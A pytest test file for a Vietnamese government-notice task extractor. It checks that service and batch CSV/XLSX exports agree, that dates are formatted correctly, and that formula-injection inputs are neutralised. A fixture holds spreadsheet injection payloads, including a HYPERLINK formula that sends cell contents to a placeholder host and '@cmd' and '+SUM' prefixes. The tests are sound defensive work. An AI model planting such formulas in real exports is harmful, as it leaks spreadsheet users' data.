"""One task table: the service's downloads, the review page's corrected tables, batch's tables and to_frame."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime
from pathlib import Path

import pytest

import vnnotice
from vnnotice import extract
from vnnotice.service.tasks import BATCH_COLUMNS, COLUMNS, task_rows, to_csv

pytest.importorskip("fastapi")
pytest.importorskip("httpx")
pytest.importorskip("openpyxl")

from fastapi.testclient import TestClient  # noqa: E402

from vnnotice.batch import run_batch  # noqa: E402
from vnnotice.service import Settings, create_app  # noqa: E402

PLAN = ("ỦY BAN NHÂN DÂN TỈNH QUẢNG TRỊ\nSố: 31/TB-UBND\nQuảng Trị, ngày 4 tháng 3 năm 2025\n"
        "THÔNG BÁO\nKết luận của Chủ tịch UBND tỉnh tại cuộc họp về chuyển đổi số\n"
        "Sau khi nghe các sở báo cáo, Chủ tịch UBND tỉnh kết luận như sau:\n"
        "1. Giao Sở Khoa học và Công nghệ chủ trì, phối hợp với Sở Nội vụ xây dựng kho dữ liệu dùng chung, "
        "hoàn thành trước ngày 30/6/2025.\n"
        "2. Sở Tài chính bố trí kinh phí theo Quyết định số 12/QĐ-UBND ngày 5/1/2025, báo cáo UBND tỉnh trước ngày 15/4/2025.\n")
HOSTILE = ("THÔNG BÁO\nKết luận của Giám đốc Sở về hồ sơ\n"
           '1. =HYPERLINK("http://x.invalid/?"&A1,"Bấm") Sở Y tế kiểm tra hồ sơ.\n'
           "2. +SUM(1,2) Sở Tài chính thực hiện.\n"
           "3. -2+3 Sở Nội vụ thực hiện.\n"
           "4. @cmd Sở Xây dựng thực hiện.\n")
DANGEROUS = ("=", "+", "-", "@")


@pytest.fixture(scope="module")
def client():
    with TestClient(create_app(Settings(timeout=60))) as c:
        yield c


def _batch_csv(tmp_path: Path, name: str, text: str) -> bytes:
    folder = tmp_path / "in"
    folder.mkdir(exist_ok=True)
    (folder / name).write_text(text, encoding="utf-8")
    run_batch([str(folder / name)], tmp_path / "out", tasks=("csv", "xlsx"))
    return (tmp_path / "out" / "tasks.csv").read_bytes()


@pytest.mark.parametrize("name,text", [("31-tb.txt", PLAN), ("cong-thuc.txt", HOSTILE)])
def test_service_and_batch_csv_are_the_same_bytes(client, tmp_path, name, text) -> None:
    service = client.post("/v1/tasks.csv", files={"file": (name, text.encode("utf-8"))}).content
    batch = _batch_csv(tmp_path, name, text)
    assert service.startswith(b"\xef\xbb\xbf") and batch.startswith(b"\xef\xbb\xbf")
    service_lines = service[3:].split(b"\r\n")
    batch_lines = batch[3:].split(b"\r\n")
    assert len(service_lines) == len(batch_lines) > 2
    # every batch line is the path and number cells, then the service's line byte for byte
    number = extract(text, name=name).number or ""
    prefix = [",".join(BATCH_COLUMNS.values()).encode()] + [f"{folder_path(tmp_path, name)},{number},".encode()] * (len(batch_lines) - 1)
    assert batch_lines[0] == prefix[0] + b"," + service_lines[0]
    for line_b, line_s in zip(batch_lines[1:-1], service_lines[1:-1]):
        assert line_b == prefix[1] + line_s
    assert batch_lines[-1] == service_lines[-1] == b""


def folder_path(tmp_path: Path, name: str) -> str:
    return str(tmp_path / "in" / name)


def test_dates_are_iso_in_csv_and_date_cells_in_xlsx(client, tmp_path) -> None:
    import openpyxl

    table = list(csv.reader(io.StringIO(client.post("/v1/tasks.csv", json={"text": PLAN}).content.decode("utf-8-sig"))))
    due = list(COLUMNS).index("due")
    assert [r[due] for r in table[1:]] == ["2025-06-30", "2025-04-15"]
    book = openpyxl.load_workbook(io.BytesIO(client.post("/v1/tasks.xlsx", json={"text": PLAN}).content))
    cells = [row[due] for row in book.active.iter_rows(min_row=2)]
    assert [c.value for c in cells] == [datetime(2025, 6, 30), datetime(2025, 4, 15)]
    assert all(c.is_date and c.number_format == "dd/mm/yyyy" for c in cells)
    _batch_csv(tmp_path, "31-tb.txt", PLAN)
    sheet = openpyxl.load_workbook(tmp_path / "out" / "tasks.xlsx")["tasks"]
    batch_due = [row[len(BATCH_COLUMNS) + due] for row in sheet.iter_rows(min_row=2)]
    assert [c.value for c in batch_due] == [datetime(2025, 6, 30), datetime(2025, 4, 15)]
    assert all(c.number_format == "dd/mm/yyyy" for c in batch_due)


def test_corrected_table_has_a_date_cell(client) -> None:
    import openpyxl

    rows = [{"directive": "d1", "marker": "1.", "text": "Rà soát", "lead": ["Sở Y tế"], "cooperate": [],
             "report_to": [], "due": "2025-03-15", "citations": []}]
    book = openpyxl.load_workbook(io.BytesIO(client.post("/v1/review/tasks.xlsx", json={"rows": rows}).content))
    cell = book.active.cell(row=2, column=list(COLUMNS).index("due") + 1)
    assert cell.value == datetime(2025, 3, 15) and cell.number_format == "dd/mm/yyyy"


def test_service_batch_and_page_escape_formulas(client, tmp_path) -> None:
    import openpyxl

    service = client.post("/v1/tasks.csv", json={"text": HOSTILE}).content.decode("utf-8-sig")
    batch = _batch_csv(tmp_path, "cong-thuc.txt", HOSTILE).decode("utf-8-sig")
    rows = task_rows(extract(HOSTILE))
    page = client.post("/v1/review/tasks.csv", json={"rows": [dict(r, due=None) for r in rows]}).content.decode("utf-8-sig")
    for table in (service, batch, page):
        cells = [cell for row in list(csv.reader(io.StringIO(table)))[1:] for cell in row]
        texts = [c for c in cells if "thực hiện" in c or "kiểm tra" in c]
        assert len(texts) == 4
        assert not any(c.startswith(DANGEROUS) for c in texts)
        assert {c[:2] for c in texts} == {"'=", "'+", "'-", "'@"}
    book = openpyxl.load_workbook(io.BytesIO(client.post("/v1/tasks.xlsx", json={"text": HOSTILE}).content))
    text_cells = [row[list(COLUMNS).index("text")] for row in book.active.iter_rows(min_row=2)]
    assert {c.value[0] for c in text_cells} == set(DANGEROUS)  # shown as written …
    assert all(c.data_type == "s" for c in text_cells)  # … typed as text, never a formula


def test_to_frame() -> None:
    pd = pytest.importorskip("pandas")
    one, two = extract(PLAN, name="31-tb.txt"), extract(HOSTILE, name="cong-thuc.txt")
    frame = vnnotice.to_frame([one, two])
    assert list(frame.columns) == ["number", *COLUMNS]
    assert len(frame) == len(one.directives) + len(two.directives)
    assert list(frame["directive"][:2]) == ["d1", "d2"] and frame["number"][0] == "31/TB-UBND"
    assert pd.api.types.is_datetime64_any_dtype(frame["due"])
    assert frame["due"][0] == pd.Timestamp(2025, 6, 30) and pd.isna(frame["due"].iloc[-1])
    assert frame["lead"][0] == ["Sở Khoa học và Công nghệ"] and "Sở Nội vụ" in frame["cooperate"][0]
    assert len(vnnotice.to_frame(one)) == len(one.directives)  # one Notice alone
    assert vnnotice.to_frame([]).empty


def test_to_csv_is_what_the_service_sends(client) -> None:
    notice = extract(PLAN, name="31-tb.txt")
    assert client.post("/v1/tasks.csv", json={"text": PLAN, "filename": "31-tb.txt"}).content == to_csv(task_rows(notice)).encode("utf-8-sig")
    assert task_rows(notice)[0]["due"] == date(2025, 6, 30)


def test_to_frame_says_which_extra_when_pandas_is_missing(monkeypatch) -> None:
    import sys

    monkeypatch.setitem(sys.modules, "pandas", None)  # as if pandas were not installed
    with pytest.raises(ImportError, match=r"vnnotice\[frame\]"):
        vnnotice.to_frame(extract(PLAN))
